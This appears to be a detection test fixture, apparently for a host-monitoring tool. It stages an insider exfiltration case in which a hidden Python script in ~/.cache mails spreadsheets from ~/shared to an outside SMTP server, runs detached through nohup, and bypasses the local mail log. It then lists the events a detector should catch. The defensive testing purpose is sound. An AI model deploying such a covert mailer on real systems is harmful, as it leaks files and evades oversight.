# A program speaks SMTP itself, straight to an outside server; our own MTA never sees it.
title="Python program sends files by SMTP straight to an outside server"
what="A detached Python program of the intern reads spreadsheets in ~/shared and sends each as an attachment through smtplib to 203.0.113.25 port 587. The host's own Postfix has no part in it, the mail log shows nothing of it."
host=ws3.example.org user=intern daemons="cron sshd"

setup() {
  install -d -o intern -g intern /home/intern/shared /home/intern/.cache
  for i in 1 2 3; do seq 1 400 > /home/intern/shared/plan$i.csv; done
  cat > /home/intern/.cache/worker.py <<'P'
import glob, os, smtplib, time
from email.message import EmailMessage
for path in sorted(glob.glob(os.path.expanduser("~/shared/*.csv"))):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "intern@example.org", "box17@example.com", os.path.basename(path)
    message.add_attachment(open(path, "rb").read(), maintype="text", subtype="csv", filename=os.path.basename(path))
    with smtplib.SMTP("smtp.example.com", 587) as client:
        client.send_message(message)
    time.sleep(2)
P
  chown -R intern: /home/intern/shared /home/intern/.cache
}
act() {
  small_talk 3
  ssh_run intern 'nohup python3 .cache/worker.py >/dev/null 2>&1 & sleep 9'
  small_talk 1
}
truth() {
  exec_step start 'python3 .cache/worker.py' 'the program starts without a terminal'
  file_step read 'python3.* openat:read NORMAL /home/intern/shared/plan1.csv' 'it reads the files'
  net_step connect 'python3.* 203.0.113.25:587' 'and speaks SMTP to an outside server'
}
